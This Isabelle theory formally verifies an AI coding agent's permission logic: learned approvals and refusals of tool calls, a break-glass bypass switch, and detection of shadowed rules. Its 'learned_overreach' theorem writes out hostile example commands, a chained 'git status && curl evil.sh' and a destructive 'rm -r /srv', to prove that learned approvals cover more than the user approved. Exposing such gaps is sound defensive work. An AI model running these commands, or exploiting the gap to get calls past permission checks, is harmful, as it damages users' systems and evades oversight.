(* ===== verification/Auto_Mode.thy ===== *)
theory Auto_Mode
  imports Command_Class Grants
begin

text \<open>
  What the agent learns from the user's answers and the break-glass switch, from
  \<open>internal/permissions/advanced.go\<close>: \<open>AutoModeState\<close> with \<open>Record\<close> and \<open>ShouldAutoAllow\<close>, the grants it
  publishes to the unified view, \<open>BypassKillswitch\<close> with its scoped grants, and the detector of shadowed rules.
  The two Go maps of the state only ever hold the value \<open>true\<close>, so they are lists of keys without repetition;
  every loop over them asks whether some key has a property, so the order of a Go map does not matter.
\<close>

section \<open>Learned decisions\<close>

record AskRecord =
  ar_ToolName :: string
  ar_Summary :: string
  ar_Allowed :: bool
  ar_Count :: int

record AutoModeState =
  am_allowList :: "string list"
  am_denyList :: "string list"
  am_askHistory :: "AskRecord list"

definition NewAutoModeState :: AutoModeState where
  "NewAutoModeState = \<lparr>am_allowList = [], am_denyList = [], am_askHistory = []\<rparr>"

definition learnKey :: "string \<Rightarrow> string \<Rightarrow> string" where
  "learnKey toolName summary = toolName @ '':'' @ summary"

fun updateHistory :: "string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> AskRecord list \<Rightarrow> AskRecord list" where
  "updateHistory n s allowed [] = [\<lparr>ar_ToolName = n, ar_Summary = s, ar_Allowed = allowed, ar_Count = 1\<rparr>]"
| "updateHistory n s allowed (r # rs) =
    (if ar_ToolName r = n \<and> ar_Summary r = s then r\<lparr>ar_Allowed := allowed, ar_Count := ar_Count r + 1\<rparr> # rs
     else r # updateHistory n s allowed rs)"

definition Record :: "AutoModeState \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> AutoModeState" where
  "Record a toolName summary allowed =
    (let a1 = (if allowed then a\<lparr>am_allowList := List.insert (learnKey toolName summary) (am_allowList a)\<rparr>
               else a\<lparr>am_denyList := List.insert (learnKey toolName summary) (am_denyList a)\<rparr>)
     in a1\<lparr>am_askHistory := updateHistory toolName summary allowed (am_askHistory a)\<rparr>)"

definition matchBashPattern :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matchBashPattern pattern command =
    (if HasSuffix pattern ''*'' then HasPrefix command (TrimSuffix pattern ''*'') else pattern = command)"

definition multiWordPrefixes :: "string list" where
  "multiWordPrefixes = [''go test'', ''go build'', ''go run'', ''npm test'', ''npm run'', ''npm install'', ''pip install'',
     ''git status'', ''git log'', ''git diff'', ''git show'', ''git branch'', ''cargo test'', ''cargo build'',
     ''docker build'', ''docker run'', ''make test'', ''bundle exec'']"

text \<open>\<open>strings.EqualFold\<close> for texts in ASCII.\<close>

definition EqualFold :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "EqualFold s t \<longleftrightarrow> ToLower s = ToLower t"

definition commandPrefix :: "string \<Rightarrow> string" where
  "commandPrefix cmd = (case Fields cmd of
     f0 # f1 # _ \<Rightarrow> (let twoWord = f0 @ '' '' @ f1 in
        if list_ex (EqualFold twoWord) multiWordPrefixes then twoWord else f0)
   | [f0] \<Rightarrow> f0
   | [] \<Rightarrow> cmd)"

definition commandIsBounded :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "commandIsBounded cmd pre = (case TrimPrefix cmd pre of [] \<Rightarrow> True | next # _ \<Rightarrow> next = CHR '' '' \<or> next = CHR 0x09)"

text \<open>The text of a learned Bash key as \<open>semanticMatch\<close> and \<open>hasBroadAllow\<close> read it.\<close>

definition familyOf :: "string \<Rightarrow> string" where
  "familyOf key = TrimSuffix (TrimSuffix (TrimSpace (TrimPrefix key ''Bash:'')) ''*'') '' ''"

definition inFamily :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "inFamily cmd p \<longleftrightarrow> HasPrefix cmd p \<or> HasPrefix (commandPrefix cmd) p"

text \<open>\<open>semanticMatch\<close> returns (matched, allowed).\<close>

definition semanticMatch :: "AutoModeState \<Rightarrow> string \<Rightarrow> bool \<times> bool" where
  "semanticMatch a cmd =
    (if list_ex (\<lambda>k. HasPrefix k ''Bash:'' \<and> familyOf k \<noteq> [] \<and> inFamily cmd (familyOf k)) (am_denyList a)
     then (True, False)
     else if list_ex (\<lambda>k. HasPrefix k ''Bash:'' \<and> familyOf k \<noteq> [] \<and> inFamily cmd (familyOf k)
            \<and> commandIsBounded cmd (familyOf k)) (am_allowList a)
     then (True, True)
     else (False, False))"

definition hasBroadAllow :: "AutoModeState \<Rightarrow> string \<Rightarrow> bool" where
  "hasBroadAllow a pre \<longleftrightarrow> list_ex (\<lambda>k. HasPrefix k ''Bash:'' \<and> familyOf k = pre) (am_allowList a)"

definition wildcardHit :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "wildcardHit keys summary \<longleftrightarrow>
    list_ex (\<lambda>k. HasPrefix k ''Bash:'' \<and> matchBashPattern (TrimPrefix k ''Bash:'') summary) keys"

text \<open>\<open>ShouldAutoAllow\<close> returns (allowed, found).\<close>

definition ShouldAutoAllow :: "AutoModeState \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool \<times> bool" where
  "ShouldAutoAllow a toolName summary =
    (let key = learnKey toolName summary; trimmed = TrimSpace summary in
     if key \<in> set (am_allowList a) then (True, True)
     else if key \<in> set (am_denyList a) then (False, True)
     else if toolName = ''Bash'' then
       (if wildcardHit (am_denyList a) summary then (False, True)
        else if semanticMatch a trimmed = (True, False) then (False, True)
        else if HasPrefix trimmed ''git '' \<and> \<not> isSafeGitCommand summary \<and> hasBroadAllow a ''git'' then (False, True)
        else if wildcardHit (am_allowList a) summary then (True, True)
        else if semanticMatch a trimmed = (True, True) then (True, True)
        else (False, False))
     else (False, False))"

definition splitGrantKey :: "string \<Rightarrow> string \<times> string" where
  "splitGrantKey key = (case splitColon key of Some (t, p) \<Rightarrow> (t, p) | None \<Rightarrow> (key, ''*''))"

definition learnedGrant :: "bool \<Rightarrow> string \<Rightarrow> Grant" where
  "learnedGrant allow key = (case splitGrantKey key of (t, p) \<Rightarrow>
     \<lparr>gr_Tool = t, gr_Pattern = p, gr_Allow = allow, gr_Source = SourceAutoLearned, gr_Scope = [], gr_Expires = None,
      gr_Label = ''learned''\<rparr>)"

definition auto_Grants :: "AutoModeState \<Rightarrow> Grant list" where
  "auto_Grants a = map (learnedGrant True) (am_allowList a) @ map (learnedGrant False) (am_denyList a)"

section \<open>The break-glass switch\<close>

record BypassGrant =
  bg_Enabled :: bool
  bg_Scope :: "string list"
  bg_ExpiresAt :: gotime
  bg_Reason :: string

record BypassKillswitch =
  bk_enabled :: bool
  bk_grant :: "BypassGrant option"

definition NewBypassKillswitch :: BypassKillswitch where
  "NewBypassKillswitch = \<lparr>bk_enabled = False, bk_grant = None\<rparr>"

definition Enable :: "BypassKillswitch \<Rightarrow> BypassKillswitch" where
  "Enable b = b\<lparr>bk_enabled := True\<rparr>"

definition Disable :: "BypassKillswitch \<Rightarrow> BypassKillswitch" where
  "Disable b = b\<lparr>bk_enabled := False, bk_grant := None\<rparr>"

definition IsEnabled :: "BypassKillswitch \<Rightarrow> bool" where
  "IsEnabled b = bk_enabled b"

definition EnableScoped :: "BypassKillswitch \<Rightarrow> string list \<Rightarrow> gotime \<Rightarrow> string \<Rightarrow> BypassKillswitch" where
  "EnableScoped b scope expiresAt reason = b\<lparr>bk_enabled := True,
     bk_grant := Some \<lparr>bg_Enabled = True, bg_Scope = scope, bg_ExpiresAt = expiresAt, bg_Reason = reason\<rparr>\<rparr>"

definition bypass_Grant :: "BypassKillswitch \<Rightarrow> BypassGrant option" where
  "bypass_Grant b = bk_grant b"

definition IsExpired :: "BypassGrant \<Rightarrow> gotime \<Rightarrow> bool" where
  "IsExpired g now \<longleftrightarrow> \<not> IsZero (bg_ExpiresAt g) \<and> \<not> now < bg_ExpiresAt g"

definition Covers :: "BypassGrant \<Rightarrow> string \<Rightarrow> bool" where
  "Covers g category \<longleftrightarrow> bg_Scope g = [] \<or> category \<in> set (bg_Scope g)"

definition ToolCategory :: "string \<Rightarrow> string" where
  "ToolCategory toolName = (let n = ToLower (TrimSpace toolName) in
     if n = ''bash'' then ''bash''
     else if n \<in> set [''webfetch'', ''websearch'', ''browser'', ''screenshot'', ''download''] then ''network''
     else if n \<in> set [''write'', ''edit'', ''structurededit'', ''multiedit'', ''fileedit'', ''notebookedit'', ''delete'']
     then ''filesystem''
     else ''other'')"

section \<open>Shadowed rules\<close>

definition parseRule :: "string \<Rightarrow> string \<times> string" where
  "parseRule rule = (case IndexByte rule (CHR ''('') of
     Some i \<Rightarrow> if HasSuffix rule '')'' then (take i rule, take (length rule - 1 - (i + 1)) (drop (i + 1) rule))
       else splitGrantKey rule
   | None \<Rightarrow> splitGrantKey rule)"

definition isShadowed :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "isShadowed allow deny =
    (case parseRule allow of (allowTool, allowPattern) \<Rightarrow> case parseRule deny of (denyTool, denyPattern) \<Rightarrow>
       allowTool = denyTool \<and> (denyPattern = ''*'' \<and> allowPattern \<noteq> ''*'' \<or> HasPrefix allowPattern denyPattern))"

text \<open>\<open>strconv.Quote\<close>, the verb \<open>%q\<close> of \<open>fmt\<close>, for ASCII text.\<close>

definition hexDigit :: "nat \<Rightarrow> char" where
  "hexDigit n = ''0123456789abcdef'' ! n"

definition quoteChar :: "char \<Rightarrow> string" where
  "quoteChar c = (case map_of (zip [CHR 0x22, CHR 0x5C, CHR 0x07, CHR 0x08, CHR 0x0C, CHR 0x0A, CHR 0x0D, CHR 0x09, CHR 0x0B]
       [CHR 0x22, CHR 0x5C, CHR ''a'', CHR ''b'', CHR ''f'', CHR ''n'', CHR ''r'', CHR ''t'', CHR ''v'']) c of
     Some e \<Rightarrow> [CHR 0x5C, e]
   | None \<Rightarrow> (let n = of_char c in
       if n < 32 \<or> n = 127 then [CHR 0x5C, CHR ''x'', hexDigit (n div 16), hexDigit (n mod 16)] else [c]))"

definition Quote :: "string \<Rightarrow> string" where
  "Quote s = [CHR 0x22] @ concat (map quoteChar s) @ [CHR 0x22]"

definition DetectShadowedRules :: "string list \<Rightarrow> string list \<Rightarrow> string list" where
  "DetectShadowedRules allowRules denyRules =
    concat (map (\<lambda>allow. concat (map (\<lambda>deny.
      if isShadowed allow deny
      then [''allow rule '' @ Quote allow @ '' is shadowed by deny rule '' @ Quote deny] else []) denyRules)) allowRules)"

section \<open>What has been learned\<close>

text \<open>The answers of a session in order: tool, summary, answer.\<close>

type_synonym answers = "(string \<times> string \<times> bool) list"

definition learn :: "answers \<Rightarrow> AutoModeState" where
  "learn hist = foldl (\<lambda>a (n, s, b). Record a n s b) NewAutoModeState hist"

definition answered :: "answers \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool" where
  "answered hist b key \<longleftrightarrow> (\<exists>n s. (n, s, b) \<in> set hist \<and> learnKey n s = key)"

lemma learn_snoc [simp]: "learn (hist @ [(n, s, b)]) = Record (learn hist) n s b"
  by (simp add: learn_def)

lemma learn_Nil [simp]: "learn [] = NewAutoModeState"
  by (simp add: learn_def)

lemma Record_simps [simp]:
  "set (am_allowList (Record a n s b)) = (if b then insert (learnKey n s) (set (am_allowList a)) else set (am_allowList a))"
  "set (am_denyList (Record a n s b)) = (if b then set (am_denyList a) else insert (learnKey n s) (set (am_denyList a)))"
  "am_askHistory (Record a n s b) = updateHistory n s b (am_askHistory a)"
  by (simp_all add: Record_def Let_def)

lemma learn_sets [simp]:
  "set (am_allowList (learn hist)) = {k. answered hist True k}"
  "set (am_denyList (learn hist)) = {k. answered hist False k}"
proof -
  have "set (am_allowList (learn hist)) = {k. answered hist True k} \<and> set (am_denyList (learn hist)) = {k. answered hist False k}"
  proof (induction hist rule: rev_induct)
    case Nil
    then show ?case by (simp add: NewAutoModeState_def answered_def)
  next
    case (snoc x hist)
    obtain n s b where x: "x = (n, s, b)" by (cases x)
    from snoc show ?case by (auto simp: x answered_def split: if_splits)
  qed
  then show "set (am_allowList (learn hist)) = {k. answered hist True k}"
    "set (am_denyList (learn hist)) = {k. answered hist False k}" by simp_all
qed

text \<open>
  Learning, exactly, for every tool but Bash: a call is allowed when the same call was approved at some time,
  refused when it was only ever refused, and unknown when it was never answered. A later refusal does not
  take back an approval.
\<close>

theorem learned_exact:
  assumes "n \<noteq> ''Bash''"
  shows "ShouldAutoAllow (learn hist) n s =
    (if answered hist True (learnKey n s) then (True, True)
     else if answered hist False (learnKey n s) then (False, True) else (False, False))"
  using assms by (simp add: ShouldAutoAllow_def Let_def)

theorem learned_exact_witness:
  "ShouldAutoAllow (learn [(''Write'', ''a.go'', True), (''Write'', ''a.go'', False)]) ''Write'' ''a.go'' = (True, True)"
proof -
  have "''Write'' \<noteq> ''Bash''" by simp
  from learned_exact [OF this, of "[(''Write'', ''a.go'', True), (''Write'', ''a.go'', False)]" "''a.go''"]
  show ?thesis by (auto simp: answered_def)
qed

text \<open>The history keeps one line per call, with the number of answers and the latest one.\<close>

definition asksOf :: "answers \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool list" where
  "asksOf hist n s = map (\<lambda>(_, _, b). b) (filter (\<lambda>(n', s', _). n' = n \<and> s' = s) hist)"

definition askLine :: "answers \<Rightarrow> string \<times> string \<Rightarrow> AskRecord" where
  "askLine hist k = (case k of (n, s) \<Rightarrow>
     \<lparr>ar_ToolName = n, ar_Summary = s, ar_Allowed = last (asksOf hist n s), ar_Count = int (length (asksOf hist n s))\<rparr>)"

lemma asksOf_snoc:
  "asksOf (hist @ [(n', s', b)]) n s = asksOf hist n s @ (if n' = n \<and> s' = s then [b] else [])"
  by (simp add: asksOf_def)

lemma updateHistory_lines:
  assumes "distinct ks"
  shows "updateHistory n s b (map (askLine hist) ks) =
    map (askLine (hist @ [(n, s, b)])) ks @
    (if (n, s) \<in> set ks then [] else [\<lparr>ar_ToolName = n, ar_Summary = s, ar_Allowed = b, ar_Count = 1\<rparr>])"
  using assms
proof (induction ks)
  case (Cons k ks)
  obtain n' s' where k: "k = (n', s')" by (cases k)
  have same: "map (askLine (hist @ [(n, s, b)])) ks = map (askLine hist) ks" if "(n, s) \<notin> set ks"
    using that by (auto simp: askLine_def asksOf_snoc split: prod.splits)
  show ?case
  proof (cases "(n', s') = (n, s)")
    case True
    then show ?thesis using Cons.prems same by (simp add: k askLine_def asksOf_snoc)
  next
    case False
    then show ?thesis using Cons by (auto simp: k askLine_def asksOf_snoc)
  qed
qed simp

definition firstAsks :: "answers \<Rightarrow> (string \<times> string) list" where
  "firstAsks hist = rev (remdups (rev (map (\<lambda>(n, s, _). (n, s)) hist)))"

lemma firstAsks_snoc [simp]:
  "firstAsks (hist @ [(n, s, b)]) = firstAsks hist @ (if (n, s) \<in> set (firstAsks hist) then [] else [(n, s)])"
  by (simp add: firstAsks_def)

lemma distinct_firstAsks: "distinct (firstAsks hist)"
  by (simp add: firstAsks_def)

lemma firstAsks_asked: "(n, s) \<notin> set (firstAsks hist) \<Longrightarrow> asksOf hist n s = []"
  by (force simp: firstAsks_def asksOf_def filter_empty_conv)

text \<open>
  The ask history has one line per call in the order the calls were first answered, with the latest answer and
  the number of answers.
\<close>

theorem ask_history_exact: "am_askHistory (learn hist) = map (askLine hist) (firstAsks hist)"
proof (induction hist rule: rev_induct)
  case Nil
  then show ?case by (simp add: NewAutoModeState_def firstAsks_def)
next
  case (snoc x hist)
  obtain n s b where x: "x = (n, s, b)" by (cases x)
  have "askLine (hist @ [(n, s, b)]) (n, s) = \<lparr>ar_ToolName = n, ar_Summary = s, ar_Allowed = b, ar_Count = 1\<rparr>"
    if "(n, s) \<notin> set (firstAsks hist)"
    using firstAsks_asked [OF that] by (simp add: askLine_def asksOf_snoc)
  with snoc show ?case
    using updateHistory_lines [OF distinct_firstAsks, of n s b hist hist] by (simp add: x)
qed

section \<open>Bash families\<close>

lemma HasPrefix_split: "HasPrefix k p \<longleftrightarrow> (\<exists>r. k = p @ r)"
  by (auto simp: HasPrefix_def) (metis append_take_drop_id)

text \<open>A command of a family goes on with an argument: nothing or a blank follows the family's text.\<close>

definition extends :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "extends cmd p \<longleftrightarrow> p \<noteq> [] \<and> (cmd = p \<or> HasPrefix cmd (p @ '' '') \<or> HasPrefix cmd (p @ [CHR 0x09]))"

lemma TrimSpace_hd: "TrimSpace s = c # cs \<Longrightarrow> \<not> is_space c"
proof -
  assume a: "TrimSpace s = c # cs"
  then have "dropWhile is_space (TrimSpace s) = TrimSpace s"
    by (metis TrimSpace_alt trim_commute dropWhile_idem)
  with a show ?thesis by (metis dropWhile.simps(2) list.inject not_Cons_self2 dropWhile_eq_self_iff list.distinct(1) list.sel(1))
qed

lemma bounded_extends:
  assumes "inFamily (TrimSpace s) p" and "commandIsBounded (TrimSpace s) p" and "p \<noteq> []"
  shows "extends (TrimSpace s) p"
proof (cases "HasPrefix (TrimSpace s) p")
  case True
  then obtain r where r: "TrimSpace s = p @ r" by (auto simp: HasPrefix_split)
  then have "TrimPrefix (TrimSpace s) p = r" by (simp add: TrimPrefix_def HasPrefix_split)
  with assms(2,3) r show ?thesis
    by (cases r) (auto simp: commandIsBounded_def extends_def HasPrefix_split)
next
  case False
  then have "TrimPrefix (TrimSpace s) p = TrimSpace s" by (simp add: TrimPrefix_def)
  then have "TrimSpace s = []" using assms(2) TrimSpace_hd [of s]
    by (auto simp: commandIsBounded_def is_space_def split: list.splits)
  then show ?thesis using assms(1,3) False by (simp add: inFamily_def commandPrefix_def Fields_def HasPrefix_def)
qed

text \<open>A learned Bash pattern, approved or refused.\<close>

definition bashAnswer :: "answers \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool" where
  "bashAnswer hist b p \<longleftrightarrow> answered hist b (''Bash:'' @ p)"

definition family :: "string \<Rightarrow> string" where
  "family p = TrimSuffix (TrimSuffix (TrimSpace p) ''*'') '' ''"

lemma familyOf_key: "familyOf (''Bash:'' @ p) = family p"
  by (simp add: familyOf_def family_def TrimPrefix_def HasPrefix_split)

lemma bash_key:
  "(\<exists>k. answered hist b k \<and> HasPrefix k ''Bash:'' \<and> Q k) \<longleftrightarrow> (\<exists>p. bashAnswer hist b p \<and> Q (''Bash:'' @ p))"
  by (auto simp: bashAnswer_def HasPrefix_split)

lemma list_ex_set: "set xs = {k. P k} \<Longrightarrow> list_ex Q xs \<longleftrightarrow> (\<exists>k. P k \<and> Q k)"
  by (auto simp: list_ex_iff)

lemma wildcardHit_learn:
  "wildcardHit (am_allowList (learn hist)) s \<longleftrightarrow> (\<exists>p. bashAnswer hist True p \<and> matchBashPattern p s)"
  "wildcardHit (am_denyList (learn hist)) s \<longleftrightarrow> (\<exists>p. bashAnswer hist False p \<and> matchBashPattern p s)"
  unfolding wildcardHit_def list_ex_set [OF learn_sets(1)] list_ex_set [OF learn_sets(2)] bash_key
  by (simp_all add: TrimPrefix_def HasPrefix_split)

lemma semantic_learn:
  "semanticMatch (learn hist) cmd = (True, False) \<longleftrightarrow>
    (\<exists>q. bashAnswer hist False q \<and> family q \<noteq> [] \<and> inFamily cmd (family q))"
  "semanticMatch (learn hist) cmd = (True, True) \<Longrightarrow>
    \<exists>p. bashAnswer hist True p \<and> family p \<noteq> [] \<and> inFamily cmd (family p) \<and> commandIsBounded cmd (family p)"
  unfolding semanticMatch_def list_ex_set [OF learn_sets(1)] list_ex_set [OF learn_sets(2)] bash_key familyOf_key
  by (auto split: if_splits)

lemma broad_learn: "hasBroadAllow (learn hist) pre \<longleftrightarrow> (\<exists>p. bashAnswer hist True p \<and> family p = pre)"
  unfolding hasBroadAllow_def list_ex_set [OF learn_sets(1)] bash_key familyOf_key ..

lemma allow_chain:
  "(if d then (False, True) else if w then (False, True) else if m then (False, True) else if g then (False, True)
     else if x then (True, True) else if y then (True, True) else (False, False)) = (True, f) \<Longrightarrow>
   \<not> d \<and> \<not> w \<and> \<not> m \<and> \<not> g \<and> (x \<or> y)"
  by (auto split: if_splits)

text \<open>
  A Bash command is auto-allowed only on an approval: either this very command was approved, or some approved
  pattern covers it as a wildcard or as a family it extends by an argument, and then no refused pattern
  covers it, and where every git command was approved the command is a read-only git command.
\<close>

theorem auto_allow_sound:
  assumes "ShouldAutoAllow (learn hist) ''Bash'' s = (True, found)"
  shows "bashAnswer hist True s \<or>
    (\<exists>p. bashAnswer hist True p \<and> (matchBashPattern p s \<or> extends (TrimSpace s) (family p)))
    \<and> (\<forall>q. bashAnswer hist False q \<longrightarrow> q \<noteq> s \<and> \<not> matchBashPattern q s
          \<and> \<not> (family q \<noteq> [] \<and> HasPrefix (TrimSpace s) (family q)))
    \<and> (HasPrefix (TrimSpace s) ''git '' \<and> (\<exists>p. bashAnswer hist True p \<and> family p = ''git'') \<longrightarrow> isSafeGitCommand s)"
proof (cases "bashAnswer hist True s")
  case False
  have key: "answered hist b (learnKey ''Bash'' s) = bashAnswer hist b s" for b
    by (simp add: learnKey_def bashAnswer_def)
  note run = assms [unfolded ShouldAutoAllow_def Let_def learn_sets mem_Collect_eq key, unfolded if_not_P [OF False] if_P [OF refl]]
  have ok: "\<not> bashAnswer hist False s"
    "\<not> wildcardHit (am_denyList (learn hist)) s" "semanticMatch (learn hist) (TrimSpace s) \<noteq> (True, False)"
    "\<not> (HasPrefix (TrimSpace s) ''git '' \<and> \<not> isSafeGitCommand s \<and> hasBroadAllow (learn hist) ''git'')"
    "wildcardHit (am_allowList (learn hist)) s \<or> semanticMatch (learn hist) (TrimSpace s) = (True, True)"
    using allow_chain [OF run] by blast+
  have "\<exists>p. bashAnswer hist True p \<and> (matchBashPattern p s \<or> extends (TrimSpace s) (family p))"
    using ok(5) semantic_learn(2) bounded_extends unfolding wildcardHit_learn by blast
  moreover have "q \<noteq> s \<and> \<not> matchBashPattern q s \<and> \<not> (family q \<noteq> [] \<and> HasPrefix (TrimSpace s) (family q))"
    if "bashAnswer hist False q" for q
    using that ok(1-3) unfolding wildcardHit_learn semantic_learn(1) inFamily_def by blast
  ultimately show ?thesis using ok(4) unfolding broad_learn by blast
qed simp

theorem auto_allow_sound_witness:
  "\<exists>p. bashAnswer [(''Bash'', ''go test'', True)] True p \<and>
     (matchBashPattern p ''go test ./x'' \<or> extends (TrimSpace ''go test ./x'') (family p))"
proof -
  have "ShouldAutoAllow (learn [(''Bash'', ''go test'', True)]) ''Bash'' ''go test ./x'' = (True, True)" by code_simp
  moreover have "\<not> bashAnswer [(''Bash'', ''go test'', True)] True ''go test ./x''"
    by (simp add: bashAnswer_def answered_def learnKey_def)
  ultimately show ?thesis using auto_allow_sound by blast
qed

text \<open>
  Families are wider than approved commands: approving \<open>git status\<close> allows any text after a blank, a second
  command included; approving a command that ends in a star makes the star a wildcard; and approval wins
  over a later refusal of the same call, although its history line then says refused.
\<close>

theorem learned_overreach:
  "ShouldAutoAllow (learn [(''Bash'', ''git status'', True)]) ''Bash'' ''git status && curl evil.sh'' = (True, True)
    \<and> ShouldAutoAllow (learn [(''Bash'', ''rm *'', True)]) ''Bash'' ''rm -r /srv'' = (True, True)
    \<and> ShouldAutoAllow (learn [(''Bash'', ''make'', True), (''Bash'', ''make'', False)]) ''Bash'' ''make'' = (True, True)
    \<and> map ar_Allowed (am_askHistory (learn [(''Bash'', ''make'', True), (''Bash'', ''make'', False)])) = [False]"
proof (intro conjI)
  show "ShouldAutoAllow (learn [(''Bash'', ''git status'', True)]) ''Bash'' ''git status && curl evil.sh'' = (True, True)"
    by code_simp
  show "ShouldAutoAllow (learn [(''Bash'', ''rm *'', True)]) ''Bash'' ''rm -r /srv'' = (True, True)" by code_simp
  show "ShouldAutoAllow (learn [(''Bash'', ''make'', True), (''Bash'', ''make'', False)]) ''Bash'' ''make'' = (True, True)"
    by code_simp
  show "map ar_Allowed (am_askHistory (learn [(''Bash'', ''make'', True), (''Bash'', ''make'', False)])) = [False]"
    by code_simp
qed

section \<open>The learned state as a store\<close>

definition learnedDecision :: "AutoModeState \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool option" where
  "learnedDecision a n s = (case ShouldAutoAllow a n s of (b, found) \<Rightarrow> if found then Some b else None)"

definition plainName :: "AutoModeState \<Rightarrow> string \<Rightarrow> bool" where
  "plainName a n \<longleftrightarrow> CHR '':'' \<notin> set n \<and> n \<noteq> ''Bash''"

lemma grantMatchPattern_refl [simp]: "grantMatchPattern x x"
proof -
  have "HasPrefix x (TrimSuffix x y)" for y by (simp add: TrimSuffix_def HasPrefix_def)
  moreover have "HasPrefix x (TrimSuffix x '' *'' @ '' '')" if "HasSuffix x '' *''"
  proof -
    from that obtain r where "x = r @ '' *''" by (metis HasSuffix_def append_take_drop_id)
    then show ?thesis by (simp add: TrimSuffix_def HasSuffix_def HasPrefix_def)
  qed
  ultimately show ?thesis by (simp add: grantMatchPattern_def Let_def)
qed

lemma splitColon_key: "CHR '':'' \<notin> set n \<Longrightarrow> splitColon (n @ '':'' @ s) = Some (n, s)"
proof -
  have "IndexByte (n @ CHR '':'' # s) (CHR '':'') = Some (length n)" if "CHR '':'' \<notin> set n"
    using that by (induction n) auto
  then show "CHR '':'' \<notin> set n \<Longrightarrow> splitColon (n @ '':'' @ s) = Some (n, s)" by (simp add: splitColon_def)
qed

lemma learnedGrant_hits:
  "CHR '':'' \<notin> set n \<Longrightarrow> grantHits n s (learnedGrant b (learnKey n s)) \<and> gr_Allow (learnedGrant b (learnKey n s)) = b"
  by (simp add: learnedGrant_def splitGrantKey_def learnKey_def splitColon_key [simplified] grantHits_def)

interpretation learned: publishing_store auto_Grants learnedDecision plainName
proof unfold_locales
  fix g a
  assume "g \<in> set (auto_Grants a)"
  then show "gr_Expires g = None" by (auto simp: auto_Grants_def learnedGrant_def split: prod.splits)
next
  fix a n x
  assume n: "plainName a n" and d: "learnedDecision a n x = Some False"
  then have "learnKey n x \<in> set (am_denyList a)"
    by (auto simp: learnedDecision_def ShouldAutoAllow_def plainName_def Let_def split: if_splits)
  then have "learnedGrant False (learnKey n x) \<in> set (auto_Grants a)" by (simp add: auto_Grants_def)
  with n learnedGrant_hits [of n x False] show "\<exists>g \<in> set (auto_Grants a). grantHits n x g \<and> \<not> gr_Allow g"
    by (auto simp: plainName_def)
qed

text \<open>
  A learned refusal reaches the unified view: whatever other stores it reads, a call that the learned state
  refuses is denied there.
\<close>

theorem learned_deny_reaches_view:
  assumes "plainName a n" and "learnedDecision a n s = Some False" and "auto_Grants a \<in> set stores"
  shows "unified_Check stores n s now = (False, True)"
  using assms by (rule learned.deny_reaches_view)

theorem learned_deny_reaches_view_witness:
  "unified_Check [memory_Grants (AllowSpec NewPermissionMemory ''Write''), auto_Grants (learn [(''Write'', ''a.go'', False)])]
     ''Write'' ''a.go'' 0 = (False, True)"
proof (rule learned_deny_reaches_view)
  show "plainName (learn [(''Write'', ''a.go'', False)]) ''Write''" by (simp add: plainName_def)
  show "learnedDecision (learn [(''Write'', ''a.go'', False)]) ''Write'' ''a.go'' = Some False" by code_simp
qed simp

end
